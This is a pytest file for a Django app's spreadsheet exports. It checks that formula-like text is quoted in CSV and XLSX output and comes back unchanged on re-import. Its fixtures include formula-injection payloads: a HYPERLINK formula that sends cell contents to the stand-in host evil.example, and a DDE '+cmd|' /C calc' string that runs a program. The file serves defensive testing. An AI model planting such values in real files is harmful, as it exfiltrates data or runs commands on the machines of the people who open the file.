"""Exports do not let a spreadsheet run a cell: text starting with = + - @ tab or CR is quoted."""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse

from plan.exports import safe_cell, safe_row

pytestmark = pytest.mark.django_db

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def test_safe_cell_quotes_formula_text_and_leaves_numbers_alone():
    for text in ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", EVIL_NAME]:
        assert safe_cell(text) == "'" + text
    for value in [42, -5, 3.5, None, True, "Công ty May 10", "", "-5", "+84", "12,5"]:
        assert safe_cell(value) == value
    assert safe_row(["=x", 1, "a"]) == ["'=x", 1, "a"]


def _admin_export(client, model, format_name):
    model_admin = admin.site._registry[model]
    formats = [f().get_title() for f in model_admin.get_export_formats()]
    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
    form = client.get(url).context["form"]
    data = {"format": formats.index(format_name), "resource": 0}
    data.update({name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)})
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return response.content


def _xlsx_cells(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row]


def _csv_cells(content):
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content.lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_an_enterprise_named_as_a_formula_is_exported_as_text_by_the_page_and_the_admin(client_as):
    from training.tests.factories import enterprise_make

    enterprise = enterprise_make(size="small", name=EVIL_NAME)
    client = client_as("doit_staff")
    page_xlsx = client.get(reverse("enterprises:export") + "?format=xlsx")
    page_csv = client.get(reverse("enterprises:export") + "?format=csv")
    assert page_xlsx.status_code == page_csv.status_code == 200
    admin_xlsx = _admin_export(client, type(enterprise), "xlsx")
    admin_csv = _admin_export(client, type(enterprise), "csv")
    page_xlsx_bytes = b"".join(page_xlsx.streaming_content)  # both page exports stream
    page_csv_bytes = b"".join(page_csv.streaming_content)
    for cells in [_xlsx_cells(page_xlsx_bytes), _csv_cells(page_csv_bytes),
                  _xlsx_cells(admin_xlsx), _csv_cells(admin_csv)]:
        assert "'" + EVIL_NAME in cells
        assert EVIL_NAME not in cells
    # numbers stay numbers in the page's xlsx
    assert enterprise.workers in _xlsx_cells(page_xlsx_bytes)


def test_a_participant_named_plus_cmd_is_exported_as_text_by_the_admin(client_as):
    from training.models import Participant
    from training.tests.factories import ParticipantFactory

    ParticipantFactory(full_name="+cmd|' /C calc'!A0", position="-2+3", agency="@SUM(1)")
    client = client_as("doit_staff")
    for format_name, read in [("xlsx", _xlsx_cells), ("csv", _csv_cells)]:
        cells = read(_admin_export(client, Participant, format_name))
        assert "'+cmd|' /C calc'!A0" in cells and "'-2+3" in cells and "'@SUM(1)" in cells, (format_name, cells)


def test_a_text_the_export_quoted_imports_back_as_it_was_saved(client_as, personas):
    """The quote an export puts before "=…" or "-…" is taken off again when the file comes back: re-importing an
    exported file leaves the registry's names and a participant's position as they were (they came back as
    "'=HYPERLINK…" and "'-2+3"). The registry's page import, its admin import and the participants' admin import."""
    import tablib
    from django.core.files.uploadedfile import SimpleUploadedFile

    from enterprises.imports import enterprise_import
    from enterprises.models import Enterprise
    from enterprises.resources import EnterpriseResource
    from training.models import Participant
    from training.resources import ParticipantResource
    from training.tests.factories import ParticipantFactory, enterprise_make

    enterprise = enterprise_make(size="small", name=EVIL_NAME)
    participant = ParticipantFactory(full_name="Nguyễn Văn A", position="-2+3", email="a@example.vn")
    client = client_as("doit_staff")
    page_csv = b"".join(client.get(reverse("enterprises:export") + "?format=csv").streaming_content)
    page_xlsx = b"".join(client.get(reverse("enterprises:export") + "?format=xlsx").streaming_content)
    for name, content in (("dn.csv", page_csv), ("dn.xlsx", page_xlsx)):
        result = enterprise_import(upload=SimpleUploadedFile(name, content), dry_run=False,
                                   user=personas["doit_staff"])
        assert result["saved"] and not result["errors"], result
        assert Enterprise.objects.get(pk=enterprise.pk).name == EVIL_NAME, name

    admin_csv = _admin_export(client, Enterprise, "csv").decode("utf-8-sig")
    assert "'" + EVIL_NAME.replace('"', '""') in admin_csv
    outcome = EnterpriseResource().import_data(tablib.Dataset().load(admin_csv, format="csv"), dry_run=False,
                                               user=personas["doit_staff"])
    assert not outcome.has_errors() and not outcome.has_validation_errors()
    assert Enterprise.objects.get(pk=enterprise.pk).name == EVIL_NAME

    participants_csv = _admin_export(client, Participant, "csv").decode("utf-8-sig")
    outcome = ParticipantResource().import_data(tablib.Dataset().load(participants_csv, format="csv"),
                                                dry_run=False)
    assert not outcome.has_errors() and not outcome.has_validation_errors()
    assert Participant.objects.get(pk=participant.pk).position == "-2+3"
